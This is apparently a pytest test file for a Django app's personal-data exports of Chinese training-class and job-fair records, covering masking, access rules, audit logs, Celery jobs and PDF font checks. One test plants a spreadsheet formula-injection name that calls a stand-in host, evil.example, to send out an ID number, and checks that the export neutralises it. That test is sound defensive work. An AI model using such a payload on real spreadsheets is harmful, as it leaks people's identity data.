"""Exports read back: XLSX opened with openpyxl (headers, rows, totals), CSV with its BOM, PDF
with its font embedded and Chinese drawn (pdffonts, pdftotext, pdftoppm); full ID numbers only
for subsidy officers; every export audited; large ones written by a real Celery worker."""

import csv
import datetime
import io
import shutil
import subprocess

import openpyxl
import pytest
from celery.contrib.testing.worker import start_worker
from django.urls import reverse
from django.utils import timezone
from PIL import Image

from config.celery import app
from events.models import (
    Booth,
    EventStaffRole,
    ExportJob,
    ExportKind,
    ExportStatus,
    ManualFigureKind,
)
from events.reports import services
from tests.factories import EmployerFactory, shanghai, staff_member, village
from tests.support.scenarios import (
    attend,
    enrol,
    register,
    sign_in,
    training_class,
    two_day_fair,
)
from tests.support.waiting import wait_until
from trainees import crypto
from trainees.models import Education, PersonalDataAccess, Sex, SpecialGroup

pytestmark = pytest.mark.django_db

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def export(client, event, kind, file_format):
    return client.post(
        reverse("statistics:export", args=[event.pk]), {"kind": kind, "format": file_format}
    )


def workbook_rows(response) -> list[tuple]:
    sheet = openpyxl.load_workbook(io.BytesIO(response.content), read_only=True).active
    rows = [tuple(row) for row in sheet.iter_rows(values_only=True)]
    width = max(len(row) for row in rows)
    return [
        row + (None,) * (width - len(row)) for row in rows
    ]  # short rows padded, as Excel shows them


@pytest.fixture
def training(superuser):
    """Two trainees over five sessions: 王芳 at every one, 李强 at the first two only."""
    event, sessions, _now = training_class(
        title="电焊工技能培训班第3期", institution="南宁市技工学校"
    )
    wang = enrol(
        event,
        name="王芳",
        birth_date=shanghai(1990, 5, 1).date(),
        sex=Sex.FEMALE,
        hukou=village("450102001001", "民乐村"),
        education=Education.JUNIOR,
        groups=[SpecialGroup.MIGRANT_WORKER],
    )
    li = enrol(event, name="李强", birth_date=shanghai(1985, 1, 2).date(), sex=Sex.MALE)
    for session in sessions:
        attend(wang, session)
    for session in sessions[:2]:
        attend(li, session)
    return event, wang, li


@pytest.fixture
def organiser_client(client, training):
    event, _wang, _li = training
    client.force_login(
        staff_member("teacher", "Organisers", event=event, role=EventStaffRole.ORGANISER)
    )
    return client


@pytest.fixture
def officer_client(client):
    client.force_login(staff_member("officer", "Subsidy officers"))
    return client


def test_the_roster_xlsx_has_the_usual_columns_and_masked_ids_for_organisers(
    organiser_client, training
):
    event, wang, _li = training

    response = export(organiser_client, event, ExportKind.ROSTER, "xlsx")

    assert response["Content-Type"] == XLSX
    assert "attachment" in response["Content-Disposition"]
    rows = workbook_rows(response)
    assert rows[0][0] == "电焊工技能培训班第3期 花名册"
    header = next(row for row in rows if row[0] == "序号")
    assert header[:8] == (
        "序号",
        "姓名",
        "性别",
        "身份证号",
        "出生年月",
        "文化程度",
        "户籍所在地",
        "手机号",
    )
    assert "特殊群体" not in header, "special groups are for officers"
    data = [row for row in rows if isinstance(row[0], int)]
    assert [row[1] for row in data] == ["王芳", "李强"]
    assert data[0][2:8] == (
        "女",
        wang.worker.id_number_masked,
        "1990-05",
        "初中",
        "兴宁区测试镇001民乐村",
        wang.worker.masked_phone,
    )
    assert "*" in data[0][3] and "*" in data[0][7]
    audit = PersonalDataAccess.objects.get(action=PersonalDataAccess.Action.EXPORT)
    assert audit.rows == 2 and "roster.xlsx" in audit.detail and "full" not in audit.detail


def test_officers_get_full_id_numbers_and_special_groups_audited(officer_client, training):
    event, wang, _li = training

    rows = workbook_rows(export(officer_client, event, ExportKind.ROSTER, "xlsx"))

    header = next(row for row in rows if row[0] == "序号")
    wang_row = next(row for row in rows if row[1] == "王芳")
    assert wang_row[3] == crypto.decrypt(wang.worker.id_number_encrypted)
    assert wang_row[7] == wang.worker.phone
    assert wang_row[header.index("特殊群体")] == "农民工"
    assert "full ID numbers" in PersonalDataAccess.objects.get().detail


def test_the_csv_starts_with_a_bom_and_reads_back_in_excel_order(organiser_client, training):
    event, _wang, _li = training

    response = export(organiser_client, event, ExportKind.REGISTRATIONS, "csv")

    assert response.content.startswith(b"\xef\xbb\xbf")
    assert "no-store" in response["Cache-Control"], "personal data: never cached"
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    header = next(row for row in rows if row and row[0] == "序号")
    assert header[1:5] == ["姓名", "手机号", "身份证号", "状态"]
    assert [row[1] for row in rows if row and row[0].isdigit()] == ["王芳", "李强"]


def test_the_attendance_sheet_has_half_days_sign_in_out_totals_and_signatures(
    organiser_client, training
):
    event, _wang, _li = training

    rows = workbook_rows(export(organiser_client, event, ExportKind.ATTENDANCE, "xlsx"))

    first = next(row for row in rows if row[0] == "序号")
    second = rows[rows.index(first) + 1]
    assert first[3:5] == ("03-02 上午", None)
    assert second[3:5] == ("签到", "签退")
    assert first[-3:] == ("应到", "实到", "出勤率")
    wang = next(row for row in rows if row[1] == "王芳")
    li = next(row for row in rows if row[1] == "李强")
    assert wang[3] == "09:00" and wang[-3:] == (5, 5, 1.0)
    assert li[-3:-1] == (5, 2) and li[-1] == pytest.approx(0.4)
    assert li[9] == "×", "absent at the fourth session (columns 3-4, 5-6, 7-8, 9-10)"
    totals = next(row for row in rows if row[0] == "合计")
    assert totals[3] == "2/2" and totals[-3:-1] == (10, 7) and totals[-1] == pytest.approx(0.7)
    assert any("李强" in str(row[0]) for row in rows if row[0] and "低于" in str(row[0]))
    assert any(str(row[0]).startswith("班主任（签字）") for row in rows if row[0])


def test_the_rate_cells_are_numbers_formatted_as_percentages(organiser_client, training):
    event, _wang, _li = training
    response = export(organiser_client, event, ExportKind.ATTENDANCE, "xlsx")

    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    rates = [row[-1] for row in sheet.iter_rows() if row[1].value == "王芳"]

    assert rates[0].value == 1.0 and rates[0].number_format == "0.0%"


requires_poppler = pytest.mark.skipif(
    shutil.which("pdftoppm") is None, reason="poppler-utils (pdftoppm, pdffonts) not installed"
)


def pdf_text_fonts_and_page(content: bytes, tmp_path) -> tuple[str, str, Image.Image]:
    path = tmp_path / "sheet.pdf"
    path.write_bytes(content)
    fonts = subprocess.run(["pdffonts", str(path)], capture_output=True, text=True, check=True)
    text = subprocess.run(
        ["pdftotext", "-layout", str(path), "-"], capture_output=True, text=True, check=True
    )
    subprocess.run(
        ["pdftoppm", "-r", "100", "-png", "-f", "1", "-l", "1", str(path), str(tmp_path / "page")],
        check=True,
    )
    page = Image.open(next(tmp_path.glob("page*.png"))).convert("L")
    return text.stdout, fonts.stdout, page


def assert_chinese_drawn(fonts: str, page: Image.Image) -> None:
    lines = fonts.splitlines()[2:]  # under the two heading lines of pdffonts
    assert lines, "the PDF uses a font"
    for line in lines:
        embedded, _subset, _unicode = line.split()[-5:-2]
        assert embedded == "yes", f"every font is embedded: {line}"
        assert "NotoSansCJK" in line, f"the packaged font, not a system one: {line}"
    # The title band at the top of the page is drawn: dark pixels where the title is.
    title = page.crop((0, 0, page.width, page.height // 12))
    dark = sum(1 for value in title.get_flattened_data() if value < 100)
    assert dark > 200, f"only {dark} dark pixels in the title band"


@requires_poppler
def test_the_attendance_sheet_pdf_draws_chinese_with_the_embedded_font(
    organiser_client, training, tmp_path
):
    event, _wang, _li = training

    response = export(organiser_client, event, ExportKind.ATTENDANCE, "pdf")

    assert response["Content-Type"] == "application/pdf"
    text, fonts, page = pdf_text_fonts_and_page(response.content, tmp_path)
    assert "电焊工技能培训班第3期 考勤表" in text
    assert "王芳" in text and "签到" in text and "班主任（签字）" in text
    assert page.width > page.height, "landscape A4"
    assert_chinese_drawn(fonts, page)


@requires_poppler
def test_the_fair_summary_pdf_and_xlsx_report_the_figures(client, superuser, tmp_path):
    event, day1, _day2 = two_day_fair(title="2026年春风行动兴宁区专场招聘会")
    employer = EmployerFactory(name="南宁市明达机械有限公司")
    Booth.objects.create(event=event, employer=employer, number="A01")
    for _ in range(3):
        sign_in(register(event), at=day1.starts_at)
    register(event)
    services.enter_figure(
        event_id=event.pk,
        kind=ManualFigureKind.LEAFLETS,
        value=4000,
        reason="按发放登记表统计",
        by=superuser,
    )
    client.force_login(staff_member("bureau", "Bureau statistics"))

    pdf = export(client, event, ExportKind.FAIR_SUMMARY, "pdf")
    rows = workbook_rows(export(client, event, ExportKind.FAIR_SUMMARY, "xlsx"))

    text, fonts, page = pdf_text_fonts_and_page(pdf.content, tmp_path)
    assert "2026年春风行动兴宁区专场招聘会 总结报告" in text
    assert "南宁市明达机械有限公司" in text and "按发放登记表统计" in text
    assert_chinese_drawn(fonts, page)
    figures = {row[0]: row[1] for row in rows if row and row[0] and len(row) > 1}
    assert figures["预约报名"] == 4 and figures["入场人数（人）"] == 3
    assert figures["报名未到场"] == 1
    assert figures["发放政策宣传资料（份）"] == 4000
    assert PersonalDataAccess.objects.filter(action="export").count() == 2


def test_exports_of_an_event_one_may_not_see_are_refused(client, training):
    event, _wang, _li = training
    for user in (
        staff_member("gate", "Scanners", event=event, role=EventStaffRole.SCANNER),
        staff_member("coordinator", "Coordinators"),
    ):
        client.force_login(user)
        assert export(client, event, ExportKind.ROSTER, "xlsx").status_code == 404
    assert not PersonalDataAccess.objects.exists()


def test_a_format_an_export_does_not_have_is_refused(organiser_client, training):
    event, _wang, _li = training

    response = export(organiser_client, event, ExportKind.ROSTER, "pdf")

    # Back to the event's page with a message: not a file, and not a job queued for the exports
    # page (a redirect without an audit row is what a queued export answers too).
    assert response.status_code == 302
    assert response["Location"] == reverse("statistics:event", args=[event.pk])
    assert not ExportJob.objects.exists()
    assert not PersonalDataAccess.objects.exists()


# Large exports -----------------------------------------------------------------------------------


def test_a_job_is_written_once_and_only_its_requester_downloads_it(client, training, settings):
    event, _wang, _li = training
    settings.CHUNFENG_SYNC_EXPORT_ROWS = 1
    officer = staff_member("officer", "Subsidy officers")
    client.force_login(officer)

    response = export(client, event, ExportKind.ROSTER, "csv")
    job = ExportJob.objects.get()
    assert response.status_code == 302 and response["Location"] == reverse("statistics:exports")
    assert job.status == ExportStatus.QUEUED and job.full_id_numbers
    assert not PersonalDataAccess.objects.exists(), "audited when written, not when asked"
    waiting = client.get(reverse("statistics:export_status")).json()["jobs"][0]
    assert (waiting["in_progress"], waiting["download"]) == (True, "")
    assert "data-percent" in client.get(reverse("statistics:exports")).content.decode()

    assert services.run_export(job_id=job.pk) is True
    assert services.run_export(job_id=job.pk) is False, "a second delivery writes nothing"
    job.refresh_from_db()
    assert (job.status, job.rows_done, job.percent) == (ExportStatus.DONE, 2, 100)
    download = client.get(reverse("statistics:export_download", args=[job.pk]))
    assert b"".join(download.streaming_content).startswith(b"\xef\xbb\xbf")
    assert "no-store" in download["Cache-Control"] and "private" in download["Cache-Control"]
    assert client.get(reverse("statistics:export_status")).json()["jobs"][0]["in_progress"] is False
    assert PersonalDataAccess.objects.get().rows == 2

    client.force_login(staff_member("bureau", "Bureau statistics"))
    assert client.get(reverse("statistics:export_download", args=[job.pk])).status_code == 404


def test_the_sweeper_deletes_exports_after_a_day(training, superuser):
    event, _wang, _li = training
    job = ExportJob.objects.create(
        kind=ExportKind.ROSTER, file_format="csv", event=event, requested_by=superuser
    )
    services.run_export(job_id=job.pk)
    job.refresh_from_db()
    storage = job.file.storage
    name = job.file.name
    assert storage.exists(name)

    result = services.sweep_exports(now=job.created_at + services.EXPORT_RETENTION * 2)

    assert result["deleted"] == 1
    assert not storage.exists(name) and not ExportJob.objects.exists()


def test_the_sweeper_deletes_files_whose_job_went_with_its_requester(training):
    event, _wang, _li = training
    officer = staff_member("officer", "Subsidy officers")
    job = ExportJob.objects.create(
        kind=ExportKind.ROSTER, file_format="csv", event=event, requested_by=officer
    )
    services.run_export(job_id=job.pk)
    job.refresh_from_db()
    storage, name = job.file.storage, job.file.name
    officer.delete()  # the job row goes with the account; its file, full ID numbers in it, stays
    assert storage.exists(name) and not ExportJob.objects.exists()

    soon = services.sweep_exports(now=timezone.now() + datetime.timedelta(hours=1))
    assert soon["deleted"] == 0 and storage.exists(name), "not before the retention period"

    later = services.sweep_exports(now=timezone.now() + services.EXPORT_RETENTION * 2)
    assert later["deleted"] == 1 and not storage.exists(name)


@pytest.mark.services
@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_a_real_worker_writes_a_large_export_for_its_requester(client, redis_broker, settings):
    settings.CHUNFENG_SYNC_EXPORT_ROWS = 1
    event, sessions, _now = training_class()
    for _ in range(3):
        attend(enrol(event), sessions[0])
    client.force_login(staff_member("bureau", "Bureau statistics"))

    with start_worker(app, perform_ping_check=False, shutdown_timeout=10):
        response = export(client, event, ExportKind.ATTENDANCE, "xlsx")
        done = wait_until(lambda: ExportJob.objects.get().status == ExportStatus.DONE, seconds=30)

    assert response.status_code == 302
    assert done, f"the worker did not finish: {ExportJob.objects.get().status}"
    status = client.get(reverse("statistics:export_status")).json()
    assert status["jobs"][0]["percent"] == 100 and status["jobs"][0]["download"]
    download = client.get(status["jobs"][0]["download"])
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(download.streaming_content))).active
    assert sum(1 for row in sheet.iter_rows(values_only=True) if isinstance(row[0], int)) == 3


def test_nothing_typed_by_a_person_becomes_a_formula(client, training):
    """A name typed as a formula stays text: openpyxl would write it as a formula and Excel
    would run it, sending a neighbouring full ID number away when clicked."""
    event, wang, _li = training
    type(wang.worker).objects.filter(pk=wang.worker_id).update(
        name='=HYPERLINK("http://evil.example/?"&D5,"点")'
    )
    client.force_login(staff_member("officer", "Subsidy officers"))

    xlsx = export(client, event, ExportKind.ROSTER, "xlsx")
    csv_response = export(client, event, ExportKind.ROSTER, "csv")

    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content)).active
    cell = next(row[1] for row in sheet.iter_rows() if str(row[1].value).startswith("=HYPER"))
    assert cell.data_type == "s" and cell.quotePrefix
    text = csv_response.content.decode("utf-8-sig")
    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text


def test_csv_keeps_id_and_mobile_numbers_as_text_for_excel(officer_client, training):
    event, wang, _li = training

    text = export(officer_client, event, ExportKind.ROSTER, "csv").content.decode("utf-8-sig")

    row = next(row for row in csv.reader(io.StringIO(text)) if len(row) > 1 and row[1] == "王芳")
    assert row[3] == f'="{crypto.decrypt(wang.worker.id_number_encrypted)}"'
    assert row[7] == f'="{wang.worker.phone}"'


def test_writers_report_progress_every_thousand_rows():
    from events.reports.sheets import Document, Table
    from events.reports.writers import write

    document = Document(
        title="进度",
        lines=[],
        tables=[Table(title="", header=[["序号"]], rows=([n] for n in range(2500)))],
        slug="progress",
    )
    seen = []

    rows = write(document, file_format="xlsx", out=io.BytesIO(), progress=seen.append)

    assert rows == 2500 and seen == [1000, 2000]


def test_a_large_export_is_written_in_the_language_it_was_asked_in(client, training, settings):
    event, _wang, _li = training
    settings.CHUNFENG_SYNC_EXPORT_ROWS = 1
    client.force_login(staff_member("bureau", "Bureau statistics"))

    client.post(
        reverse("statistics:export", args=[event.pk]),
        {"kind": ExportKind.ROSTER, "format": "csv"},
        HTTP_ACCEPT_LANGUAGE="en",
    )
    job = ExportJob.objects.get()
    services.run_export(job_id=job.pk)

    job.refresh_from_db()
    assert job.language == "en"
    assert "Roster" in job.file.open("rb").read().decode("utf-8-sig")


@pytest.mark.services
def test_the_sweeper_hands_over_waiting_jobs_and_gives_up_on_dead_ones(
    training, superuser, redis_broker
):
    event, _wang, _li = training
    waiting, running = (
        ExportJob.objects.create(
            kind=ExportKind.ROSTER, file_format="csv", event=event, requested_by=superuser
        )
        for _ in range(2)
    )
    started = waiting.created_at
    ExportJob.objects.filter(pk=running.pk).update(status=ExportStatus.RUNNING, started_at=started)

    recent = services.sweep_exports(now=started + datetime.timedelta(minutes=1))
    later = services.sweep_exports(now=started + services.EXPORT_GIVE_UP_AFTER * 2)

    assert recent == {"handed_over": 0, "failed": 0, "deleted": 0}
    assert (later["handed_over"], later["failed"]) == (1, 1)
    assert ExportJob.objects.get(pk=running.pk).status == ExportStatus.FAILED
    assert ExportJob.objects.get(pk=waiting.pk).handed_over_at is not None
    again = services.sweep_exports(now=started + services.EXPORT_GIVE_UP_AFTER * 2)
    assert again["handed_over"] == 0, "handed over a moment ago: not again yet"
